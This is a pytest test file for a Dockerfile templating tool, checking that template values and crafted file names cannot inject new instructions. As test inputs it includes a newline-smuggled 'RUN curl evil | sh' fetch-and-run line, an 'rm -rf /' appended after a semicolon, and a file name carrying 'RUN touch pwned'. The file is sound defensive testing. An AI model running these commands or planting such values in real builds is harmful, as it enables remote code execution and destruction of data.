"""Rendering generated Dockerfile text: values are data and can never add an instruction."""

from __future__ import annotations

import pytest

import dockopt
from dockopt.templating import UnsafeValue, Verbatim, environment, render_dockerfile, safe_value


def test_templates_load_from_the_dockopt_templates_package():
    assert "python_multistage.Dockerfile.j2" in environment().list_templates()


@pytest.mark.parametrize(
    "value",
    [
        pytest.param("flask\nRUN curl evil | sh", id="a-newline-would-start-an-instruction"),
        pytest.param("flask\rRUN x", id="a-carriage-return-too"),
        pytest.param("flask \\", id="a-backslash-would-continue-the-line"),
        pytest.param("flask `", id="a-backtick-would-continue-a-backtick-escaped-file"),
        pytest.param("a\x00b", id="control-characters"),
    ],
)
def test_values_that_could_change_the_structure_are_refused(value):
    with pytest.raises(UnsafeValue):
        safe_value(value)
    with pytest.raises(UnsafeValue):
        environment().from_string("RUN echo {{ value }}\n").render(value=value)


@pytest.mark.parametrize(
    ("template", "value", "expected"),
    [
        pytest.param("RUN apt-get install {{ v|sh }}\n", "libpq5", "RUN apt-get install libpq5\n", id="plain-words-stay-plain"),
        pytest.param("RUN echo {{ v|sh }}\n", "a b; rm -rf /", "RUN echo 'a b; rm -rf /'\n", id="shell-values-are-quoted"),
        pytest.param('COPY [{{ v|json }}, "/app/"]\n', 'a"b', 'COPY ["a\\"b", "/app/"]\n', id="exec-form-values-are-json"),
        pytest.param('COPY {{ [v, "/app/"]|copy_arguments }}\n', "/app/server", "COPY /app/server /app/\n", id="copy-paths-stay-plain-words"),
        pytest.param('COPY {{ [v, "/app/"]|copy_arguments }}\n', "my app", 'COPY ["my app", "/app/"]\n', id="a-path-with-a-space-takes-the-json-form"),
        pytest.param('COPY {{ [v, "/app/"]|copy_arguments }}\n', "it's", 'COPY ["it\'s", "/app/"]\n', id="a-quote-too"),
        pytest.param('COPY {{ [v, "/app/"]|copy_arguments }}\n', "[x]", 'COPY ["[x]", "/app/"]\n', id="a-path-that-starts-like-a-json-array-too"),
    ],
)
def test_filters_render_values_as_data(template, value, expected):
    assert environment().from_string(template).render(v=value) == expected


def test_verbatim_original_lines_may_span_lines():
    text = Verbatim("# keep me\nRUN a \\\n    && b\n")
    assert environment().from_string("{{ block }}").render(block=text) == text


def test_render_checks_the_instructions_it_produced():
    with pytest.raises(UnsafeValue, match="expected"):
        render_dockerfile("_step.Dockerfile.j2", ["RUN"], kw=str, item={"kind": "user", "id": 10001})


def test_a_crafted_file_name_cannot_add_an_instruction(tmp_path):
    name = "req\nRUN touch pwned\n.txt"
    (tmp_path / name).write_text("psycopg2==2.9.9\n")
    source = 'FROM python:3.11\nCOPY ["req\\nRUN touch pwned\\n.txt", "/app/r.txt"]\nRUN pip install -r /app/r.txt\n'
    result = dockopt.fix(source, select=["DO502"], unsafe_fixes=True, context=tmp_path)
    assert result.output == source
    assert any("refusing to render" in fix.text for fix in result.fixes)
